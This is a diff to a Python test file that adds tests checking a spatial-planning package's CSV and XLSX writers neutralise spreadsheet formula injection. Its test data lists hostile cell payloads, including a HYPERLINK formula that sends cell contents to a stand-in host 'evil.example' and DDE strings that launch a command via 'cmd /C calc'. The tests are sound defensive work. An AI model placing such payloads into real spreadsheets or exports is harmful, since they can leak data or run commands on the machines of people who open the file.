@@ -161,7 +161,9 @@ def _csv_tables():
     rng = np.random.default_rng(5)
     n = 300
     words = np.array(["示范镇", "", "plain", 'q"uote', "c,omma", "n\nl", "c\rr", "\r\n", " sp ",
-                      "=1+1", "0520", '"', "😀"], dtype=object)
+                      "=1+1", "0520", '"', "😀", "-5", "+1.5e3", "-5\n", " -5", "-", "@x",
+                      "+1+cmd|' /C calc'!A0", "\t=1", "\r=1", " =1", "\u3000=1", "-1-1",
+                      "'=1"], dtype=object)
     floats = rng.integers(0, 2**64, n, dtype=np.uint64).view(np.float64).copy()
     floats[::11] = np.nan
     floats[4], floats[5] = np.inf, -np.inf
@@ -188,7 +190,8 @@ def test_csv_arrow_writer_gives_pandas_bytes(tmp_path, index):
     df = list(_csv_tables())[index]
     path = write_table(df, tmp_path / "t.csv")
     reference = tmp_path / "pandas.csv"
-    df.to_csv(reference, index=False, encoding="utf-8-sig", lineterminator="\r\n")
+    output.defuse_formulas(df).to_csv(reference, index=False, encoding="utf-8-sig",
+                                      lineterminator="\r\n")
     assert path.read_bytes() == reference.read_bytes()
     has_arrow = output._csv_columns(pd.DataFrame({"a": [1.5], "b": ["x"]})) is not None
     assert (output._csv_columns(df) is not None) == (index < 2 and has_arrow)
@@ -341,3 +344,57 @@ def test_a_failed_geopackage_stops_the_later_writers(demo_run, tmp_path, monkeyp
     with pytest.raises(OutputError, match="gpkg broken"):
         _write_check(demo_run, tmp_path / "out", monkeypatch, 2)
     assert calls == [] and not (tmp_path / "out").exists()
+
+
+# --------------------------------------------------------------------------------------------
+# Formula injection (OWASP): text cells a spreadsheet would run are written as text
+# --------------------------------------------------------------------------------------------
+
+_HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
+            "\n=1+1", " =1+1", "\u3000=1+1", "\x00=1"]
+
+
+def _read_cells(path):
+    import csv
+
+    with open(path, encoding="utf-8-sig", newline="") as fh:
+        return list(csv.reader(fh))
+
+
+@pytest.mark.parametrize("arrow", [True, False])
+def test_csv_text_cells_that_start_a_formula_get_a_quote(tmp_path, monkeypatch, arrow):
+    from spatialplan import _xlsx
+
+    if not arrow:
+        monkeypatch.setattr(_xlsx, "arrow_compute", lambda: None)
+    n = len(_HOSTILE)
+    df = pd.DataFrame({"name": _HOSTILE, "=cmd|' /C calc'!A0": ["-5"] * n,
+                       "n": [-3] * n, "x": [-1.5] * n, "mixed": [-7] + ["-7+A1"] * (n - 1),
+                       "plain": ["示范镇"] * n})
+    rows = _read_cells(write_table(df, tmp_path / "t.csv"))
+    assert rows[0] == ["name", "'=cmd|' /C calc'!A0", "n", "x", "mixed", "plain"]
+    assert [r[0] for r in rows[1:]] == ["'" + t for t in _HOSTILE]
+    # numbers stay numbers: numeric columns, and a plain number held as text
+    assert {tuple(r[1:4]) for r in rows[1:]} == {("-5", "-3", "-1.5")}
+    assert [r[4] for r in rows[1:3]] == ["-7", "'-7+A1"]
+    assert {r[5] for r in rows[1:]} == {"示范镇"}
+
+
+def test_csv_categorical_and_index_cells_are_defused(tmp_path):
+    df = pd.DataFrame({"c": pd.Categorical(["=1+1", "ok", None])}, index=["@a", "b", "c"])
+    rows = _read_cells(write_table(df, tmp_path / "t.csv", index=True))
+    assert rows[1:] == [["'@a", "'=1+1"], ["b", "ok"], ["c", ""]]
+
+
+def test_xlsx_keeps_formula_like_text_as_text(tmp_path):
+    import zipfile
+
+    df = pd.DataFrame({"name": _HOSTILE[:4] + ["-5"], "n": [-1.5] * 5})
+    path = write_table(df, tmp_path / "t.xlsx")
+    sheet = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet and sheet.count('t="inlineStr"') >= 6
+    ws = openpyxl.load_workbook(path).active
+    assert [ws.cell(r, 1).value for r in range(2, 7)] == _HOSTILE[:4] + ["-5"]
+    assert {ws.cell(r, 1).data_type for r in range(2, 7)} == {"s"}
+    assert ws.cell(2, 2).value == -1.5 and ws.cell(2, 2).data_type == "n"
